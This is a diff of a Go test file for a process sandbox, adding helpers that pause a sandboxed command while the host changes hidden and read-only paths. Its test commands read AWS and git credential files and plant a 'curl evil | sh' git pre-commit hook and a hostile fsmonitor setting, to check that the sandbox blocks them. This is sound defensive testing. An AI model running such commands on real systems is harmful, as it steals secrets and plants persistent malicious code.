@@ -57,6 +57,27 @@ func waitCovered(t *testing.T, p *agentproc.Process, paths ...string) time.Durat
 	return time.Since(start)
 }
 
+// startWaiting starts command under m in ws with a stdin: the command
+// reads a line from it ("read x") at the point where the test changes
+// what the policy names, and goes on when releaseWaiting writes it. The
+// tree is stopped at the test's end if it still runs.
+func startWaiting(t *testing.T, m *agentproc.Manager, ws, command string) *agentproc.Process {
+	t.Helper()
+	p := mustStart(t, m, agentproc.Request{WorkDir: ws, Stdin: true, Command: command})
+	t.Cleanup(func() { _, _ = p.Stop(testContext(t)) })
+	return p
+}
+
+// releaseWaiting writes the line a tree from startWaiting reads, and
+// waits for the tree to end.
+func releaseWaiting(t *testing.T, p *agentproc.Process) {
+	t.Helper()
+	if _, err := p.WriteStdin(testContext(t), []byte("go\n")); err != nil {
+		t.Fatal(err)
+	}
+	mustWait(t, p)
+}
+
 // TestSandboxHideWhileRunning checks, as root, that a hidden path the host
 // makes, or replaces by a rename (which detaches its cover), while a tree
 // runs in the policy's namespace is covered for that tree too, not only
@@ -77,8 +98,7 @@ func TestSandboxHideWhileRunning(t *testing.T) {
 	plain := newManager(t)
 	read := "cat " + shellQuote(aws) + "; cat " + shellQuote(gitCreds)
 
-	p := mustStart(t, m, agentproc.Request{WorkDir: ws, Stdin: true, Command: "read x; " + read})
-	t.Cleanup(func() { _, _ = p.Stop(testContext(t)) })
+	p := startWaiting(t, m, ws, "read x; "+read)
 	// Start has returned: the tree is in the namespace. Now the host
 	// changes what the policy hides.
 	if err := os.MkdirAll(awsDir, 0o700); err != nil {
@@ -96,10 +116,7 @@ func TestSandboxHideWhileRunning(t *testing.T) {
 	}
 	took := waitCovered(t, p, awsDir, gitCreds)
 	t.Logf("covered in the running tree's namespace within %v of the host's last change (a 1 ms poll)", took)
-	if _, err := p.WriteStdin(testContext(t), []byte("go\n")); err != nil {
-		t.Fatal(err)
-	}
-	mustWait(t, p)
+	releaseWaiting(t, p)
 	if out := p.Output().Text; strings.Contains(out, "SECRET") {
 		t.Errorf("a running tree read a credential made or replaced after its Start: output %q, want neither secret", out)
 	}
@@ -130,8 +147,7 @@ func TestSandboxReadOnlyWhileRunning(t *testing.T) {
 			}
 			m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
 			write := "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config"
-			p := mustStart(t, m, agentproc.Request{WorkDir: ws, Stdin: true, Command: "read x; " + write})
-			t.Cleanup(func() { _, _ = p.Stop(testContext(t)) })
+			p := startWaiting(t, m, ws, "read x; "+write)
 			if again {
 				if err := os.RemoveAll(git); err != nil {
 					t.Fatal(err)
@@ -141,10 +157,7 @@ func TestSandboxReadOnlyWhileRunning(t *testing.T) {
 				t.Fatal(err)
 			}
 			waitCovered(t, p, git)
-			if _, err := p.WriteStdin(testContext(t), []byte("go\n")); err != nil {
-				t.Fatal(err)
-			}
-			mustWait(t, p)
+			releaseWaiting(t, p)
 			for _, f := range []string{filepath.Join(git, "hooks", "pre-commit"), filepath.Join(git, "config")} {
 				if _, err := os.Stat(f); err == nil {
 					t.Errorf("a running tree wrote %s in a .git the host made after its Start (output %q)", f, p.Output().Text)
@@ -186,10 +199,8 @@ func TestSandboxLiveRepairFollowsNoLink(t *testing.T) {
 	sb.ReadOnly = append(sb.ReadOnly, lnIn, lnOut, probe)
 	m := newManager(t, agentproc.WithSandbox(sb))
 
-	p := mustStart(t, m, agentproc.Request{WorkDir: ws, Stdin: true,
-		Command: "ln -s data ro-in && ln -s " + shellQuote(outside) + " ro-out && mkdir ro-probe && echo linked; read x; " +
-			"echo x > data/new && echo x > " + shellQuote(filepath.Join(outside, "new")) + " && echo wrote"})
-	t.Cleanup(func() { _, _ = p.Stop(testContext(t)) })
+	p := startWaiting(t, m, ws, "ln -s data ro-in && ln -s "+shellQuote(outside)+" ro-out && mkdir ro-probe && echo linked; read x; "+
+		"echo x > data/new && echo x > "+shellQuote(filepath.Join(outside, "new"))+" && echo wrote")
 	waitForOutput(t, p, regexp.MustCompile("linked"))
 	waitCovered(t, p, probe)
 	for _, target := range []string{data, outside} {
@@ -197,10 +208,7 @@ func TestSandboxLiveRepairFollowsNoLink(t *testing.T) {
 			t.Errorf("%s is a mount point in the tree's namespace: the repair followed a tree's link onto it", target)
 		}
 	}
-	if _, err := p.WriteStdin(testContext(t), []byte("go\n")); err != nil {
-		t.Fatal(err)
-	}
-	mustWait(t, p)
+	releaseWaiting(t, p)
 	if out := p.Output().Text; !strings.Contains(out, "wrote") {
 		t.Errorf("writes through the tree's own directories after the repair: output %q, want \"wrote\" (a link's target must stay writable)", out)
 	}
